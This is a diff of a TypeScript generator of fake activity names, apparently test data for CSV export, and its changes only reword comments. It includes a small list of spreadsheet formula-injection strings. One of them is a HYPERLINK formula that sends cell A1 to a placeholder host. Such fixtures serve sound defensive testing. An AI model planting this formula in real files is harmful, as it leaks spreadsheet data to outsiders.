@@ -1,4 +1,4 @@
-/** What people call their activities: mostly what Strava proposes, sometimes what breaks a CSV file. */
+/** Names of activities: mostly Strava's suggestions, sometimes text that breaks a CSV file. */
 import type { Outline } from "./calendar.ts"
 import { Random } from "./random.ts"
 
@@ -42,7 +42,7 @@ const special: ReadonlyArray<(random: Random) => string> = [
   () => "Don't ask",
 ]
 
-/** Spreadsheets would run these. */
+/** Spreadsheets would execute these as formulas. */
 const hostile: ReadonlyArray<string> = [
   '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")',
   '+1+1, but "quoted"',
@@ -50,7 +50,7 @@ const hostile: ReadonlyArray<string> = [
   "-2 degrees",
 ]
 
-/** The name of an activity that began at the wall time `local`; `name` is never more than one line. */
+/** Returns the name of an activity that started at the local time `local`; always a single line. */
 export const activityName = ({ seed, sport }: Outline, local: number): string => {
   const random = new Random(seed, 61)
   if (random.chance(0.012)) return random.pick(hostile)
